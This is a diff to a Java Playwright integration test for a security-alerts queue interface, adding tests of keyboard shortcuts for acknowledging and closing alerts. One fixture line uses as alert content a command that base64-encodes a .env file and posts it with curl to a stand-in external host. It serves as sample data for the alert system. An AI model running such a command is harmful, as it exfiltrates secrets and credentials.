@@ -77,10 +77,47 @@ class AlertsQueueIT {
         assertThat(page.getByText("1 closed")).isVisible();
         assertThat(first.locator(".stand")).containsText("false alarm, test-analyst");
         assertThat(first).hasClass(Pattern.compile(".*\\bpast\\b.*"));
-        page.reload();
-        assertThat(rows(page).first()).hasClass(Pattern.compile(".*\\bcur\\b.*"));
         page.keyboard().press("Enter");
         assertThat(page).hasURL(Pattern.compile(".*/alerts/[0-9a-f-]{36}.*"));
+    }
+
+    @Test
+    void keysCountHoweverFastTheyFollow() throws IOException {
+        var person = raisedFor("fast@example.com");
+        var page = queue(Roles.ANALYST, "?person=" + person);
+        var keys = program.list("/api/v1/alerts?order=gravest&person=" + person).stream().map(alert -> alert.path("id").asText()).toList();
+
+        for (var key : new String[] {"c", "c", "e"}) {
+            page.keyboard().press(key);
+        }
+        page.getByText("Authorised").click();
+        assertThat(page.locator("vaadin-dialog[opened]")).hasCount(1);
+        page.getByLabel("Why, for whoever").fill(WHY);
+        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Close as authorised"))).isEnabled();
+        for (var key : new String[] {"Control+Enter", "j", "e", "Enter"}) {
+            page.keyboard().press(key);
+        }
+
+        assertThat(page).hasURL(Pattern.compile(".*/alerts/" + keys.get(1) + ".*"));
+        assertThat(page.locator(".state-of")).containsText("acknowledged");
+        assertThat(program.get("/api/v1/alerts/" + keys.getFirst()).path("status").asText()).isEqualTo("closed");
+        assertThat(program.get("/api/v1/alerts/" + keys.getFirst()).path("closeJustification").asText()).isEqualTo(WHY);
+    }
+
+    @Test
+    void keysWaitForAListThatIsStillBeingRead() throws IOException {
+        var person = raisedFor("early@example.com");
+        var page = queue(Roles.ANALYST, "?person=" + person);
+        var keys = program.list("/api/v1/alerts?order=gravest&person=" + person).stream().map(alert -> alert.path("id").asText()).toList();
+        send(person, "another", "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
+        assertThat(page.getByText("since you began reading")).isVisible();
+
+        // As somebody types who knows the keys: all of it is on its way before the list is read anew.
+        page.evaluate("keys => keys.forEach(key => document.dispatchEvent(new KeyboardEvent('keydown', {key, bubbles: true})))", java.util.List.of(".", "j", "k", "e"));
+
+        assertThat(page.locator(".alerts-row.cur .stand")).containsText("acknowledged");
+        assertThat(page.locator(".alerts-row .stand").getByText("acknowledged")).hasCount(1);
+        program.await(() -> program.get("/api/v1/alerts/" + keys.getFirst()).path("status").asText().equals("acknowledged"));
     }
 
     @Test
